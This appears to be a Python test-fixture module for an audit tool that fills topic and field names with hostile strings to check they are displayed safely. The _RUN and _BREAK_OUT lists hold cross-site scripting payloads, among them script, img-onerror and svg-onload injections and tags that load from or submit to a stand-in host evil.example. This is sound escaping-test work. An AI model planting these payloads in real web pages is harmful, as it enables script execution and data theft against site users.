"""Names that strangers give to topics and fields, to be shown as what they are."""

from __future__ import annotations

from dataclasses import replace
from itertools import product

from flowaudit.facts import FieldName
from flowaudit.graph.evidence import EdgeKind
from flowaudit.graph.identity_view import Addition
from flowaudit.graph.snapshot import GraphSnapshot, Hidden
from tests.unit.metrics.samples import START_MS, estate, topic

_BREAK_OUT = (
    "", '"', "'", '">', "'>", '" x="', "' x='", "-->", "]]>", "<!--", "</td>", "</table>", "</main>", "</title>",
    "</style>", "</bdi>", "</textarea>", "&lt;", "&#60;", "\x00", "\r\n\r\n", "\\", "%3C", "{{", "\u202e",
)  # fmt: skip
_RUN = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=//evil.example></object>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><button>x", "<plaintext>",
    "onmouseover=alert(1) autofocus", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)  # fmt: skip
PAYLOADS = tuple(map("".join, product(_BREAK_OUT, _RUN)))
LONG = "a" * 249
RIGHT_TO_LEFT = ("$.\u05ea\u05d5\u05e9\u05d1", "$.\u0645\u0648\u0627\u0637\u0646")
"""Field names in Hebrew and in Arabic."""


def payloads() -> GraphSnapshot:
    """Every payload in a row of its own, and one wherever else a name can stand."""
    snapshot = named(PAYLOADS[0], PAYLOADS[3])
    hidden = tuple(Hidden("topic", payload, payload, payload) for payload in PAYLOADS)
    return replace(snapshot, coverage=replace(snapshot.coverage, not_visible=hidden))


def named(one: str, other: str) -> GraphSnapshot:
    """The estate with these as the names of the topics that linkage speaks of, and of all their fields."""
    snapshot = estate()
    fields, field = ((one, other),), FieldName(one, other)
    hidden = (Hidden("topic", one, "no-read-right", f"what is in {other}"),)
    return replace(
        snapshot,
        edges=tuple(
            replace(edge, source=topic(one), target=topic(other), fields=fields, alternates=(one, other))
            for edge in snapshot.edges
            if edge.kind is EdgeKind.DERIVES
        ),
        clusters=tuple(
            replace(
                cluster,
                fields=tuple(replace(told, field=field) for told in cluster.fields),
                additions=tuple(Addition(one, (field, field), 20, START_MS, (one, other)) for _ in cluster.additions),
            )
            for cluster in snapshot.clusters
        ),
        same_people=tuple(replace(pair, topics=(one, other), fields=fields) for pair in snapshot.same_people),
        coverage=replace(snapshot.coverage, not_visible=hidden),
    )
